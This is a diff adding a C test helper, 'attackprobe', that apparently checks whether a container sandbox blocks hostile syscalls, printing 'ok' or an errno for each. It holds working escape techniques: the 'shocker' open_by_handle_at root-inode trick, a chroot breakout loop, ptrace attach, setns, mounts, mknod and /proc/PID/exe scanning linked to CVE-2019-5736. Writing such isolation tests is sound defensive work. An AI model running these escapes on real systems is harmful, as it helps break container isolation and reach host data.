@@ -1,0 +1,242 @@
+/* Attack probe for tests/attacks: one hostile syscall per sub-command.
+ *
+ * Static (gcc -static), so it runs in any tree. Every sub-command prints one
+ * line: "ok" (plus detail) when the kernel let it through, or the errno name
+ * (EPERM, EACCES, ...) when it was refused. It never prints anything else on
+ * stdout, so the tests can compare the output exactly.
+ *
+ *   attackprobe keyctl-session          keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING)
+ *   attackprobe keyctl-user             keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING)
+ *   attackprobe keyctl-join NAME        keyctl(KEYCTL_JOIN_SESSION_KEYRING, NAME)
+ *   attackprobe add-key DESC            add_key("user", DESC, "x", KEY_SPEC_SESSION_KEYRING)
+ *   attackprobe request-key DESC        request_key("user", DESC, NULL, 0)
+ *   attackprobe ptrace PID              ptrace(PTRACE_ATTACH, PID) (detaches again on success)
+ *   attackprobe write PATH DATA         open(PATH, O_WRONLY) + write(DATA)
+ *   attackprobe setns PATH              open(PATH) + setns(fd, 0)
+ *   attackprobe mount SRC TGT FSTYPE OPTS   mount(2); "-" means NULL
+ *   attackprobe fsmount FSTYPE [SOURCE] fsopen + fsconfig(CMD_CREATE) + fsmount
+ *   attackprobe shocker                 open_by_handle_at of inode 2 of the rootfs' filesystem
+ *   attackprobe chroot-escape DIR [PATH]  mkdir DIR, chroot DIR, chdir("..") x 64, chroot("."),
+ *                                       then print "ok" and the entries of "/" (readdir order);
+ *                                       with PATH, a second line: "reach" if PATH opens, else errno
+ *   attackprobe watch-exe SECONDS       for SECONDS, scan /proc for other processes and open each
+ *                                       /proc/PID/exe (O_RDONLY): print "foreign PID TARGET" for an
+ *                                       exe that is none of /bin/busybox, /bin/attackprobe (the
+ *                                       tree's own binaries), then "seen N denied M" at the end
+ *   attackprobe mknod PATH c|b MAJ MIN
+ *   attackprobe kill0 PID               kill(PID, 0): does the pid exist for us?
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <signal.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/sysmacros.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#ifndef KEYCTL_GET_KEYRING_ID
+#define KEYCTL_GET_KEYRING_ID 0
+#define KEYCTL_JOIN_SESSION_KEYRING 1
+#endif
+#define KEY_SPEC_USER_KEYRING -4
+#define KEY_SPEC_SESSION_KEYRING -3
+
+static int fail(void) {
+    const char *name = strerrorname_np(errno);
+    printf("%s\n", name ? name : "E?");
+    return 0;
+}
+
+static int ok(void) {
+    printf("ok\n");
+    return 0;
+}
+
+static int do_fsmount(const char *fstype, const char *source) {
+    int fs = syscall(SYS_fsopen, fstype, 0);
+    if (fs < 0)
+        return fail();
+    if (source && syscall(SYS_fsconfig, fs, 1 /* SET_STRING */, "source", source, 0) < 0)
+        return fail();
+    if (syscall(SYS_fsconfig, fs, 6 /* CMD_CREATE */, NULL, NULL, 0) < 0)
+        return fail();
+    int m = syscall(SYS_fsmount, fs, 0, 0);
+    if (m < 0)
+        return fail();
+    return ok();
+}
+
+static int shocker(void) {
+    /* CVE-style "shocker" (2014): guess a file handle for the filesystem root
+     * (ext4 root inode is 2, FILEID_INO32_GEN) and open it through any fd on
+     * that filesystem. Needs CAP_DAC_READ_SEARCH in the initial namespace. */
+    struct {
+        struct file_handle fh;
+        unsigned int ino, gen;
+    } h;
+    memset(&h, 0, sizeof h);
+    h.fh.handle_bytes = 8;
+    h.fh.handle_type = 1;
+    h.ino = 2;
+    h.gen = 0;
+    int mfd = open("/", O_RDONLY | O_DIRECTORY);
+    if (mfd < 0)
+        return fail();
+    int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
+    if (fd < 0)
+        return fail();
+    return ok();
+}
+
+static int chroot_escape(const char *dir, const char *probe) {
+    mkdir(dir, 0755);
+    if (chroot(dir) < 0)
+        return fail();
+    for (int i = 0; i < 64; i++)
+        if (chdir("..") < 0)
+            return fail();
+    if (chroot(".") < 0)
+        return fail();
+    DIR *d = opendir("/");
+    if (!d)
+        return fail();
+    printf("ok");
+    struct dirent *e;
+    while ((e = readdir(d)))
+        if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
+            printf(" %s", e->d_name);
+    printf("\n");
+    if (probe) {
+        int fd = open(probe, O_RDONLY);
+        if (fd < 0)
+            return fail();
+        printf("reach\n");
+    }
+    return 0;
+}
+
+static int same_file(int fd, const char *path) {
+    struct stat a, b;
+    return fstat(fd, &a) == 0 && stat(path, &b) == 0 && a.st_dev == b.st_dev &&
+           a.st_ino == b.st_ino;
+}
+
+static int watch_exe(double seconds) {
+    /* CVE-2019-5736: a process that joins the container (exec) must never let the
+     * container open its /proc/PID/exe while that still is a host binary. */
+    struct timespec t0, t;
+    clock_gettime(CLOCK_MONOTONIC, &t0);
+    long seen = 0, denied = 0;
+    pid_t self = getpid();
+    for (;;) {
+        clock_gettime(CLOCK_MONOTONIC, &t);
+        if ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > seconds)
+            break;
+        DIR *d = opendir("/proc");
+        if (!d)
+            return fail();
+        struct dirent *e;
+        while ((e = readdir(d))) {
+            pid_t pid = atoi(e->d_name);
+            if (pid <= 0 || pid == self)
+                continue;
+            char path[64], target[4096];
+            snprintf(path, sizeof path, "/proc/%d/exe", pid);
+            int fd = open(path, O_RDONLY | O_CLOEXEC);
+            if (fd < 0) {
+                if (errno == EACCES || errno == EPERM)
+                    denied++;
+                continue;
+            }
+            seen++;
+            if (!same_file(fd, "/bin/busybox") && !same_file(fd, "/bin/attackprobe")) {
+                ssize_t n = readlink(path, target, sizeof target - 1);
+                target[n < 0 ? 0 : n] = 0;
+                printf("foreign %d %s\n", pid, target);
+                fflush(stdout);
+            }
+            close(fd);
+        }
+        closedir(d);
+    }
+    printf("seen %ld denied %ld\n", seen, denied);
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    if (argc < 2)
+        goto usage;
+    const char *cmd = argv[1];
+    errno = 0;
+    if (!strcmp(cmd, "keyctl-session") || !strcmp(cmd, "keyctl-user")) {
+        long id = !strcmp(cmd, "keyctl-session") ? KEY_SPEC_SESSION_KEYRING : KEY_SPEC_USER_KEYRING;
+        long r = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, id, 0, 0, 0);
+        if (r < 0)
+            return fail();
+        printf("ok %ld\n", r);
+        return 0;
+    }
+    if (!strcmp(cmd, "keyctl-join") && argc >= 3)
+        return syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, argv[2], 0, 0, 0) < 0 ? fail() : ok();
+    if (!strcmp(cmd, "add-key") && argc >= 3)
+        return syscall(SYS_add_key, "user", argv[2], "x", 1, KEY_SPEC_SESSION_KEYRING) < 0 ? fail()
+                                                                                             : ok();
+    if (!strcmp(cmd, "request-key") && argc >= 3)
+        return syscall(SYS_request_key, "user", argv[2], NULL, 0) < 0 ? fail() : ok();
+    if (!strcmp(cmd, "ptrace") && argc >= 3) {
+        pid_t pid = atoi(argv[2]);
+        if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
+            return fail();
+        waitpid(pid, NULL, __WALL);
+        ptrace(PTRACE_DETACH, pid, 0, 0);
+        return ok();
+    }
+    if (!strcmp(cmd, "kill0") && argc >= 3)
+        return kill(atoi(argv[2]), 0) < 0 ? fail() : ok();
+    if (!strcmp(cmd, "write") && argc >= 4) {
+        int fd = open(argv[2], O_WRONLY | O_NOCTTY);
+        if (fd < 0)
+            return fail();
+        if (write(fd, argv[3], strlen(argv[3])) < 0)
+            return fail();
+        return ok();
+    }
+    if (!strcmp(cmd, "setns") && argc >= 3) {
+        int fd = open(argv[2], O_RDONLY);
+        if (fd < 0)
+            return fail();
+        return setns(fd, 0) < 0 ? fail() : ok();
+    }
+    if (!strcmp(cmd, "mount") && argc >= 6) {
+        const char *a[4];
+        for (int i = 0; i < 4; i++)
+            a[i] = strcmp(argv[2 + i], "-") ? argv[2 + i] : NULL;
+        return mount(a[0], a[1], a[2], 0, a[3]) < 0 ? fail() : ok();
+    }
+    if (!strcmp(cmd, "fsmount") && argc >= 3)
+        return do_fsmount(argv[2], argc >= 4 ? argv[3] : NULL);
+    if (!strcmp(cmd, "shocker"))
+        return shocker();
+    if (!strcmp(cmd, "chroot-escape") && argc >= 3)
+        return chroot_escape(argv[2], argc >= 4 ? argv[3] : NULL);
+    if (!strcmp(cmd, "watch-exe") && argc >= 3)
+        return watch_exe(atof(argv[2]));
+    if (!strcmp(cmd, "mknod") && argc >= 6) {
+        mode_t type = argv[3][0] == 'b' ? S_IFBLK : S_IFCHR;
+        return mknod(argv[2], type | 0666, makedev(atoi(argv[4]), atoi(argv[5]))) < 0 ? fail()
+                                                                                        : ok();
+    }
+usage:
+    fprintf(stderr, "attackprobe: bad usage (see the comment at the top of attackprobe.c)\n");
+    return 2;
+}
